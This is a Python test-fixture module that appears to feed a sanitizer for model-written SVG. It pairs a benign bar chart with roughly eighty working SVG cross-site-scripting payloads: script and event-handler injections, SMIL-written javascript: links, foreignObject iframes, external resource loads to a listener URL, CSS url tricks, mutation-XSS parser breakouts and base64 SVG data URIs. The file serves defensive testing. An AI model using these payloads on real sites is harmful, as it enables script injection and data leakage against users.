"""SVG written into HTML by a model: a bar chart a designer would keep, and the SVG-borne
tricks of public payload lists (script and handlers, SMIL that writes links or loads, foreign
HTML, references of every element that takes one, style sheets, parser and namespace
tricks, mutation XSS, SVG as image data), each as HTML that would run `RAN` (writes PWNED
into the page) or reach `url` (a listener's address, ending in `/`)."""

from __future__ import annotations

import base64
import urllib.parse

from pdfprompt.devtools.fake_llm import CHART_COLORS, CHART_LABELS, bar_chart

__all__ = ["CHART_COLORS", "CHART_LABELS", "RAN", "bar_chart", "hostile_inline_svgs"]

RAN = "document.body.append('PWNED');document.title='PWNED'"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def hostile_inline_svgs(url: str) -> dict[str, str]:
    """One trick each, as a fragment of a body."""
    u = url
    evil_svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RAN}\">"
        f"<image href='{u}img-in-data'/><script>{RAN}</script></svg>"
    )
    quoted = evil_svg.replace('"', "&quot;")
    return {
        # script, however spelled
        "script": f"<svg><script>{RAN}</script><rect width='5' height='5'/></svg>",
        "script-href": f"<svg><script href='{u}s1'></script></svg>",
        "script-xlink-href": f"<svg><script xlink:href='{u}s2'></script></svg>",
        "script-cdata": f"<svg><script><![CDATA[{RAN}]]></script></svg>",
        "script-prefixed": f"<svg><svg:script>{RAN}</svg:script></svg>",
        "script-upper-case": f"<SVG><SCRIPT>{RAN}</SCRIPT></SVG>",
        "script-entity-name": f"<svg><&#115;cript>{RAN}</script></svg>",
        "xhtml-namespace-claimed": f"<svg xmlns='http://www.w3.org/1999/xhtml'><script>{RAN}</script></svg>",
        # event handlers
        "onload": f'<svg onload="{RAN}"><circle r="4"/></svg>',
        "onload-slash": f"<svg/onload={RAN}>",
        "g-onload-breakout": f"<svg><g/onload={RAN}//<p>",
        "image-onerror": f"<svg><image href='x' onerror=\"{RAN}\"/></svg>",
        "handler-mixed-case": f"<svg><rect OnClIcK=\"{RAN}\" onMouseOver='{RAN}' width='4'/></svg>",
        "focus-autofocus": f"<svg><rect tabindex='1' autofocus onfocusin=\"{RAN}\"/></svg>",
        "raster-image-onload": (
            "<svg><image width='4' height='4' href='data:image/gif;base64,"
            f'R0lGODlhAQABAAAAACw=\' onload="{RAN}"/></svg>'
        ),
        # SMIL animation: handlers, links written, loads started
        "animate-onbegin": f"<svg><animate onbegin=\"{RAN}\" attributeName='x' dur='1s'/></svg>",
        "animate-onend": f"<svg><animate onend=\"{RAN}\" attributeName='x' dur='1ms'/></svg>",
        "animate-transform-begin": (
            f"<svg><animateTransform attributeName='transform' type='scale' begin='0s' "
            f'onbegin="{RAN}"/></svg>'
        ),
        "animate-href-javascript": (
            "<svg><a><circle r='9'/><animate attributeName='href' "
            f"values='javascript:{RAN}'/><text y='20'>click</text></a></svg>"
        ),
        "animate-xlink-href": (
            "<svg><a xlink:href='#'><animate attributeName='xlink:href' begin='0s' "
            f"to='javascript:{RAN}'/></a></svg>"
        ),
        "set-href": (
            f"<svg><a><set attributeName='href' to='javascript:{RAN}'/><text>x</text></a></svg>"
        ),
        "set-handler": f"<svg><set attributeName='onmouseover' to=\"{RAN}\"/></svg>",
        "animate-use-load": (
            f"<svg><use><animate attributeName='href' values='{u}anim.svg#a'/></use></svg>"
        ),
        "animate-style-url": (
            "<svg><rect width='9'><animate attributeName='fill' "
            f"values='url({u}an#a)'/></rect></svg>"
        ),
        "animate-motion-mpath": (
            f"<svg><animateMotion dur='1s'><mpath href='{u}path.svg#p'/></animateMotion></svg>"
        ),
        "discard-onbegin": f'<svg><discard onbegin="{RAN}"/></svg>',
        "smil-accesskey-begin": (
            f"<svg><set begin='accessKey(a)' attributeName='href' to='javascript:{RAN}'/></svg>"
        ),
        # foreign HTML inside the drawing
        "foreign-object-iframe": (
            f"<svg><foreignObject width='99' height='99'><iframe src='{u}fo'></iframe>"
            "</foreignObject></svg>"
        ),
        "foreign-object-script": (
            f"<svg><foreignObject><body><script>{RAN}</script></body></foreignObject></svg>"
        ),
        "foreign-object-img": (
            f"<svg><foreignObject><img src='{u}foimg' onerror=\"{RAN}\"></foreignObject></svg>"
        ),
        "switch-foreign-object": (
            "<svg><switch><foreignObject requiredExtensions='http://www.w3.org/1999/xhtml'>"
            f"<iframe src='{u}sw'></iframe></foreignObject></switch></svg>"
        ),
        "iframe-prefixed": f"<svg><html:iframe src='{u}h'></html:iframe></svg>",
        "iframe-in-svg": f"<svg><iframe src='{u}if'></iframe><object data='{u}ob'></object></svg>",
        "desc-iframe": f"<svg><desc><iframe src='{u}desc'></iframe></desc></svg>",
        "title-img": f"<svg><title><img src='{u}title' onerror=\"{RAN}\"></title></svg>",
        "handler-element": (
            f"<svg><handler type='application/ecmascript' ev:event='load'>{RAN}</handler></svg>"
        ),
        "listener-element": "<svg><listener event='load' handler='#h'/><g id='h'/></svg>",
        # links
        "a-javascript": f"<svg><a xlink:href='javascript:{RAN}'><text y='10'>t</text></a></svg>",
        "a-data-html": (
            f"<svg><a href='data:text/html,<script>{RAN}</script>'><text>t</text></a></svg>"
        ),
        "a-entities": f"<svg><a href='&#106;ava&#x09;script:{RAN}'><text>t</text></a></svg>",
        "a-other-prefix": (
            "<svg xmlns:x='http://www.w3.org/1999/xlink'>"
            f"<a x:href='javascript:{RAN}'><text>t</text></a></svg>"
        ),
        # references out of the document
        "use-http": f"<svg><use href='{u}use.svg#a'/></svg>",
        "use-xlink-http": f"<svg><use xlink:href='{u}use2.svg#a'/></svg>",
        "use-protocol-relative": f"<svg><use href='{u.replace('http:', '')}use3#a'/></svg>",
        "use-relative": "<svg><use href='other.svg#a'/></svg>",
        "use-entity-scheme": f"<svg><use href='&#104;{u[1:]}use4#a'/></svg>",
        "use-data-svg": (
            "<svg><use href=\"data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'>"
            f"<image href='{u}usedata'/></svg>#a\"/></svg>"
        ),
        "image-http": f"<svg><image href='{u}img.png' width='9' height='9'/></svg>",
        "image-xlink-http": f"<svg><image xlink:href='{u}img2.png' width='9' height='9'/></svg>",
        "image-javascript": f"<svg><image href='javascript:{RAN}'/></svg>",
        "image-svg-data": f"<svg><image href='data:image/svg+xml;base64,{_b64(evil_svg)}'/></svg>",
        "fe-image": (
            f"<svg><filter id='f'><feImage href='{u}fe'/></filter>"
            "<rect filter='url(#f)' width='9' height='9'/></svg>"
        ),
        "filter-external": f"<svg><rect filter='url({u}f.svg#f)' width='9' height='9'/></svg>",
        "mask-external": f"<svg><rect mask=\"url('{u}m.svg#m')\" width='9' height='9'/></svg>",
        "clip-path-external": (
            f"<svg><rect clip-path='url({u}c.svg#c)' width='9' height='9'/></svg>"
        ),
        "fill-external": f"<svg><rect fill='url({u}p.svg#p)' width='9' height='9'/></svg>",
        "marker-external": (
            f"<svg><line marker-end='url({u}mk.svg#m)' x2='9' y2='9' stroke='black'/></svg>"
        ),
        "gradient-href": f"<svg><linearGradient id='g' href='{u}g.svg#g'/></svg>",
        "pattern-href": f"<svg><pattern id='p' xlink:href='{u}p.svg#p'/></svg>",
        "filter-href": f"<svg><filter id='f2' href='{u}f2.svg#f'/></svg>",
        "tref": f"<svg><text><tref xlink:href='{u}tref.svg#t'/></text></svg>",
        "alt-glyph": f"<svg><text><altGlyph xlink:href='{u}glyph.svg#g'>a</altGlyph></text></svg>",
        "font-face-uri": (
            "<svg><font-face><font-face-src>"
            f"<font-face-uri xlink:href='{u}ffu.svg#f'/></font-face-src></font-face></svg>"
        ),
        "color-profile": (
            f"<svg><color-profile name='p' xlink:href='{u}icc'/><rect color-profile='p'/></svg>"
        ),
        "cursor": f"<svg><rect cursor='url({u}cur)' style='cursor: url({u}cur2), auto'/></svg>",
        "xml-base": (
            f"<svg xml:base='{u}'><use href='#a'/><g id='a'/><image href='base.png'/></svg>"
        ),
        # style sheets and style attributes
        "style-import": f"<svg><style>@import url({u}imp.css);</style><rect/></svg>",
        "style-url": f"<svg><style>rect {{ fill: url({u}sf.png) }}</style><rect/></svg>",
        "style-font-face": (
            f"<svg><style>@font-face {{ font-family: x; src: url({u}font.ttf) }} "
            "text { font-family: x }</style><text>t</text></svg>"
        ),
        "style-escape": f"<svg><style>rect {{ fill: u\\72l({u}esc) }}</style></svg>",
        "style-cdata": f"<svg><style><![CDATA[ rect {{ fill: url({u}cdata) }} ]]></style></svg>",
        "style-attribute-url": f"<svg><rect style='fill: url({u}sa.png); stroke: red'/></svg>",
        "style-attribute-comment": f"<svg><rect style='fill: ur/**/l({u}sc)'/></svg>",
        "style-attribute-entity": f"<svg><rect style='fill: &#117;rl({u}ent)'/></svg>",
        "style-attribute-image-set": (
            f"<svg><rect style=\"fill: red; background: image-set('{u}is' 1x)\"/></svg>"
        ),
        # the HTML parser's own tricks
        "breakout-paragraph": f"<svg><p><img src='{u}br' onerror=\"{RAN}\"></p></svg>",
        "mxss-style-in-svg": (
            f'<svg></p><style><a id="</style><img src=\'{u}mx\' onerror="{RAN}">">'
        ),
        "mxss-mglyph": (
            "<svg><desc><table><mglyph><style><!--</style>"
            f"<img title=\"--&gt;&lt;img src='{u}mg' onerror={RAN}&gt;\"></mglyph></table>"
            "</desc></svg>"
        ),
        "math-in-svg": (
            f"<svg><math><mtext><img src='{u}math' onerror=\"{RAN}\"></mtext></math></svg>"
        ),
        "comment-break": f"<svg><!--</svg><img src='{u}cm' onerror=\"{RAN}\">--></svg>",
        "mark-forged": "<p>pdfprompt-drawing-000000000000000000000000-0</p><svg><rect/></svg>",
        # SVG as image data
        "img-data-svg-base64": f"<img src='data:image/svg+xml;base64,{_b64(evil_svg)}'>",
        "img-data-svg-percent": (f"<img src='data:image/svg+xml,{urllib.parse.quote(evil_svg)}'>"),
        "img-data-svg-utf8": f'<img src="data:image/svg+xml;utf8,{quoted}">',
        "css-data-svg": (
            f"<div style=\"background: url('data:image/svg+xml;base64,{_b64(evil_svg)}')\">d</div>"
        ),
        "css-data-svg-block": (
            f"<style>div {{ background: url(data:image/svg+xml;base64,{_b64(evil_svg)}) }}</style>"
        ),
    }
